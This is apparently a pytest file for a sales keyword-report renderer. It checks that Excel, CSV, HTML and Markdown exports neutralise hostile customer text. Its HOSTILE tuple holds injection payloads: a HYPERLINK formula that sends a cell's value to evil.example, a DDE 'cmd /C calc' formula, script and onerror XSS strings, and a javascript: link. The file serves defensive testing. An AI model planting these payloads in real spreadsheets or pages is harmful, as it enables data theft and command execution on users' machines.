"""The keyword report as files: safe whatever customers said, the same bytes for the same report."""

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from io import BytesIO

import openpyxl
import pytest

from koe.errors import SetupError
from koe.keywords import Keyword, KeywordQuote, KeywordReport, render
from koe.keywords.render import FORMATS
from koe.keywords.words import EN, JA
from koe.language.text import Language

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "＝１＋１",
    "\t=1+1",
    "\u200b=1+1",
    "https://evil.example/a",
    "mailto:a@evil.example",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/p.png)",
    "[ここ](javascript:alert(1))",
    "a | b\n# c",
    "\u202eright to left",
    "{{ 7*7 }}",
)
TAGS = {"html", "head", "meta", "title", "style", "body", "a", "header", "div", "p", "h1", "h2", "main"}
TAGS |= {"section", "dl", "dt", "dd", "details", "summary", "span", "svg", "rect", "path", "figure"}
TAGS |= {"blockquote", "figcaption", "footer", "ul", "li", "b"}


def make_keyword(text: str, outcome: str = "won", tier: str = "hint") -> Keyword:
    quote = KeywordQuote(conversation=text, turn=3, quote=f"{text} と言われました。")
    return Keyword(
        term=text,
        variants=(text, text.upper()),
        outcome="won" if outcome == "won" else "lost",
        deals_won=6 if outcome == "won" else 1,
        deals_lost=1 if outcome == "won" else 6,
        tier="finding" if tier == "finding" else "hint",
        log_odds=1.25,
        share_difference=0.3125 if outcome == "won" else -0.3,
        interval=(0.05, 0.52) if outcome == "won" else (-0.5, -0.1),
        p=0.0123,
        p_adjusted=0.0456,
        explained_by=None,
        deals_needed=None if tier == "finding" else 44,
        quotes=(quote,),
    )


def make_report(keywords: tuple[Keyword, ...]) -> KeywordReport:
    return KeywordReport(
        since="2026-09-01",
        until=None,
        deals_won=16,
        deals_lost=15,
        silent=2,
        min_deals=3,
        tested=25,
        by_chance=8.2,
        message="ok" if keywords else "nothing",
        keywords=keywords,
    )


HOSTILE_REPORT = make_report(
    tuple(make_keyword(text, "won" if n % 2 else "lost") for n, text in enumerate(HOSTILE))
)
PLAIN_REPORT = make_report((make_keyword("監査ログ", tier="finding"), make_keyword("相見積", "lost")))


def sheets(body: bytes) -> dict[str, str]:
    with zipfile.ZipFile(BytesIO(body)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def test_no_cell_of_the_workbook_is_a_formula_or_a_link() -> None:
    parts = sheets(render(HOSTILE_REPORT, "xlsx", "ja"))
    pages = [text for name, text in parts.items() if name.startswith("xl/worksheets/")]
    assert len(pages) >= 4 and not any(re.search(r"<f[ >]|<hyperlink", page) for page in pages)
    assert not any("TargetMode" in text or "externalLink" in name for name, text in parts.items())


def test_the_workbook_holds_the_words_as_they_were_said() -> None:
    book = openpyxl.load_workbook(BytesIO(render(HOSTILE_REPORT, "xlsx", "ja")))
    said = {
        cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "s"
    }
    assert {HOSTILE[0], HOSTILE[2], HOSTILE[4], HOSTILE[9]} <= said


@pytest.mark.parametrize(
    ("language", "names"),
    [
        pytest.param("ja", ["受注", "失注", "発言", "読み方"], id="japanese"),
        pytest.param("en", ["Won", "Lost", "Quotes", "How to read this"], id="english"),
    ],
)
def test_the_workbook_is_ready_to_sort(language: Language, names: list[str]) -> None:
    book = openpyxl.load_workbook(BytesIO(render(PLAIN_REPORT, "xlsx", language)))
    assert book.sheetnames == names
    for sheet in book.worksheets[:3]:
        assert sheet.freeze_panes == "B2" and sheet.auto_filter.ref
    won = book.worksheets[0]
    assert [won.cell(2, n).value for n in (1, 3, 4)] == ["監査ログ", 6, 1]
    assert won.cell(2, 5).number_format == "0%" and won.cell(2, 5).value == pytest.approx(6 / 16)


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("language", ["ja", "en"])
def test_the_same_report_gives_the_same_bytes(form: str, language: Language) -> None:
    again = KeywordReport.model_validate_json(HOSTILE_REPORT.model_dump_json())
    assert render(HOSTILE_REPORT, form, language) == render(again, form, language)


def test_no_text_of_the_csv_starts_like_a_formula() -> None:
    body = render(HOSTILE_REPORT, "csv", "ja")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    texts = [cell for row in rows[1:] for cell in (row[1], row[-1])]
    assert body.startswith(b"\xef\xbb\xbf") and len(rows) == len(HOSTILE) + 1
    assert not [
        text for text in texts if text.lstrip(" \t\u200b\"'")[:1] in tuple("=+-@＝＋－＠") and text[0] != "'"
    ]


def test_every_row_of_the_csv_has_every_column() -> None:
    rows = list(csv.reader(io.StringIO(render(HOSTILE_REPORT, "csv", "en").decode("utf-8-sig"), newline="")))
    assert {len(row) for row in rows} == {16}


class Seen(HTMLParser):
    """Collects what a browser would build."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}


@pytest.mark.parametrize("language", ["ja", "en"])
def test_the_page_has_no_element_that_a_customer_brought(language: Language) -> None:
    seen = Seen()
    seen.feed(render(HOSTILE_REPORT, "html", language).decode())
    assert seen.tags <= TAGS
    assert not [
        name for name, _ in seen.attributes if name.startswith("on") or name in ("src", "srcset", "action")
    ]
    assert {value for name, value in seen.attributes if name == "href"} <= {"#main"}


def test_the_page_shows_the_words_and_their_quotes() -> None:
    page = render(PLAIN_REPORT, "html", "ja").decode()
    assert "監査ログ と言われました。" in page and "受注 6/16件・失注 1/15件" in page
    assert page.count('<svg class="diverging"') == 2 and "<script" not in page


def test_markdown_carries_no_link_image_or_element() -> None:
    text = render(HOSTILE_REPORT, "md", "ja").decode()
    bare = re.sub(r"`[^`]*`", "", text)
    assert not re.search(r"(?<!\\)!\[|(?<!\\)\]\(|<[a-z/]|https?://|\w@\w", bare)


def test_a_table_row_of_markdown_stays_one_row() -> None:
    text = render(HOSTILE_REPORT, "md", "en").decode()
    rows = [line for line in text.splitlines() if line.startswith("|")]
    assert {len(re.findall(r"(?<!\\)\|", row)) for row in rows} == {7}


def test_json_is_the_report() -> None:
    assert KeywordReport.model_validate(json.loads(render(PLAIN_REPORT, "json", "ja"))) == PLAIN_REPORT


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("language", ["ja", "en"])
def test_a_report_without_keywords_says_so(form: str, language: Language) -> None:
    body = render(make_report(()), form, language)
    words = JA if language == "ja" else EN
    if form == "xlsx":
        book = openpyxl.load_workbook(BytesIO(body))
        assert words.messages["nothing"] in {row[0].value for row in book.worksheets[3].iter_rows()}
        assert [sheet["A2"].value for sheet in book.worksheets[:3]] == [words.none] * 3
    elif form in ("html", "md"):
        assert words.messages["nothing"] in body.decode()


def test_an_unknown_format_names_those_there_are() -> None:
    with pytest.raises(SetupError, match="html, xlsx, csv, md, json"):
        render(PLAIN_REPORT, "pdf", "ja")


def test_both_languages_say_the_same_things() -> None:
    for name in JA._fields:
        one, other = getattr(JA, name), getattr(EN, name)
        assert type(one) is type(other) and bool(one) == bool(other)
        if isinstance(one, dict):
            assert set(one) == set(other)
